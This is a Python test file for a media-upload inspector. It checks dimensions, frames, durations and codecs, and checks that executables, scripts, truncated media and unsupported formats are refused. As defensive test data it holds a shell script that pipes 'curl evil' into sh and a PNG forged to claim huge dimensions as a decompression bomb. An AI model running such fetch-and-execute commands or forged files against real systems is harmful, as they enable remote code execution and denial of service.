"""Inspection of real files: the type comes from the bytes, dimensions from Pillow,
duration and codec from the MP4 index; anything else is refused with a reason."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import pytest

from chalicelib.media.inspection import Refused, inspect
from chalicelib.media.sniff import Kind
from chalicelib.media.source import BytesSource
from tests.support.media_files import (
    animated_gif,
    box,
    image_bytes,
    moov,
    mp4_bytes,
    write_sparse_mp4,
)


class FileSource:
    """A local file read like S3: by ranges, counting what was read."""

    def __init__(self, path: Path) -> None:
        self._file = path.open("rb")
        self.size = path.stat().st_size
        self.bytes_read = 0

    def read(self, offset: int, length: int) -> bytes:
        self._file.seek(offset)
        data = self._file.read(length)
        self.bytes_read += len(data)
        return data


@pytest.mark.parametrize(
    ("fmt", "content_type", "size", "mode"),
    [
        ("JPEG", "image/jpeg", (640, 480), "RGB"),
        ("JPEG", "image/jpeg", (1, 1), "L"),
        ("JPEG", "image/jpeg", (3000, 200), "RGB"),
        ("PNG", "image/png", (800, 1200), "RGBA"),
        ("PNG", "image/png", (37, 3), "P"),
        ("WEBP", "image/webp", (1080, 1920), "RGB"),
        ("GIF", "image/gif", (500, 500), "P"),
    ],
)
def test_images_of_each_format_report_type_and_dimensions(fmt, content_type, size, mode):
    result = inspect(BytesSource(image_bytes(fmt, size, mode=mode)))
    assert result.content_type == content_type
    assert (result.width, result.height) == size
    assert result.kind == (Kind.GIF if fmt == "GIF" else Kind.IMAGE)
    assert result.frames == 1


def test_a_photo_turned_by_its_exif_orientation_reports_the_size_people_see():
    result = inspect(BytesSource(image_bytes("JPEG", (1600, 1200), orientation=6)))
    assert (result.width, result.height) == (1200, 1600)


def test_an_animated_gif_reports_its_frames():
    result = inspect(BytesSource(animated_gif(frames=7, size=(120, 80))))
    assert result.kind == Kind.GIF
    assert result.frames == 7
    assert (result.width, result.height) == (120, 80)


def test_a_video_reports_duration_dimensions_and_codecs():
    result = inspect(BytesSource(mp4_bytes(width=1920, height=1080, seconds=42.5, audio=True)))
    assert result.kind == Kind.VIDEO
    assert result.content_type == "video/mp4"
    assert (result.width, result.height) == (1920, 1080)
    assert result.duration_seconds == 42.5
    assert (result.video_codec, result.audio_codec) == ("h264", "aac")


def test_the_index_after_the_media_data_is_found_too():
    result = inspect(BytesSource(mp4_bytes(moov_first=False, seconds=3, timescale=90000)))
    assert result.duration_seconds == 3.0


def test_a_phone_video_recorded_upright_reports_portrait_dimensions():
    result = inspect(BytesSource(mp4_bytes(width=1920, height=1080, rotate=True)))
    assert (result.width, result.height) == (1080, 1920)


def test_an_hevc_video_names_its_codec():
    assert inspect(BytesSource(mp4_bytes(codec=b"hvc1"))).video_codec == "hevc"


def test_a_big_video_is_inspected_from_its_box_headers_and_index_only(tmp_path):
    path = tmp_path / "big.mp4"
    write_sparse_mp4(path, 300 * 1024 * 1024, seconds=600, width=3840, height=2160)
    source = FileSource(path)
    result = inspect(source)
    assert (result.width, result.height, result.duration_seconds) == (3840, 2160, 600)
    assert source.bytes_read < 64 * 1024


def test_a_renamed_executable_is_refused_whatever_its_name():
    windows_program = b"MZ\x90\x00\x03" + bytes(59) + b"PE\x00\x00" + bytes(1000)
    with pytest.raises(Refused, match="executable") as refused:
        inspect(BytesSource(windows_program))
    assert refused.value.content_type == "application/x-msdownload"


@pytest.mark.parametrize(
    "data",
    [b"\x7fELF\x02\x01\x01" + bytes(100), b"\xcf\xfa\xed\xfe" + bytes(100)],
    ids=["linux", "macos"],
)
def test_other_programs_are_refused(data):
    with pytest.raises(Refused, match="executable"):
        inspect(BytesSource(data))


def test_a_script_is_refused():
    with pytest.raises(Refused, match="script"):
        inspect(BytesSource(b"#!/bin/sh\ncurl evil | sh\n"))


def test_a_truncated_jpeg_is_refused_as_corrupt():
    data = image_bytes("JPEG", (800, 600), noise=True)
    with pytest.raises(Refused, match="corrupt or truncated"):
        inspect(BytesSource(data[: len(data) // 2]))


def test_a_video_cut_off_inside_its_index_is_refused():
    data = mp4_bytes(moov_first=False)
    with pytest.raises(Refused, match="truncated"):
        inspect(BytesSource(data[:-40]))


def test_a_video_without_an_index_is_refused():
    data = box(b"ftyp", b"isom", bytes(4), b"isom") + box(b"mdat", bytes(5000))
    with pytest.raises(Refused, match="no index"):
        inspect(BytesSource(data))


def test_an_audio_only_file_is_refused():
    data = box(b"ftyp", b"mp42", bytes(4), b"mp42") + moov(video=False, audio=True)
    with pytest.raises(Refused, match="no video track"):
        inspect(BytesSource(data))


def test_a_video_with_a_zero_duration_is_refused():
    with pytest.raises(Refused, match="duration"):
        inspect(BytesSource(mp4_bytes(seconds=0)))


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (bytes(range(256)) * 4, "not an image"),
        (b"%PDF-1.7\n" + bytes(100), "PDF"),
        (b"\x1a\x45\xdf\xa3" + bytes(100), "WebM"),
        (box(b"ftyp", b"heic", bytes(4), b"mif1heic"), "HEIC"),
    ],
    ids=["empty", "random", "pdf", "webm", "heic"],
)
def test_unsupported_content_is_refused_with_the_reason(data, reason):
    with pytest.raises(Refused, match=reason):
        inspect(BytesSource(data))


def _png_claiming(width: int, height: int) -> bytes:
    """A valid PNG whose header claims another size (a decompression bomb's trick)."""
    data = bytearray(image_bytes("PNG", (8, 8)))
    ihdr = struct.pack(">II", width, height) + data[24:29]
    data[16:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    return bytes(data)


def test_an_image_with_too_many_pixels_is_refused_before_decoding():
    with pytest.raises(Refused, match="megapixels"):
        inspect(BytesSource(_png_claiming(40_000, 40_000)))


def test_a_csv_file_is_a_document():
    result = inspect(BytesSource("date,time,text\n2026-12-01,09:00,Bonjour à tous\n".encode()))
    assert (result.kind, result.content_type) == (Kind.DOCUMENT, "text/csv")


def test_a_csv_file_that_is_not_utf8_is_refused():
    rows = b"date,text\n" + b"2026-12-01,hello\n" * 500
    data = rows + "2026-12-02,café\n".encode("latin-1")
    with pytest.raises(Refused, match="UTF-8"):
        inspect(BytesSource(data))
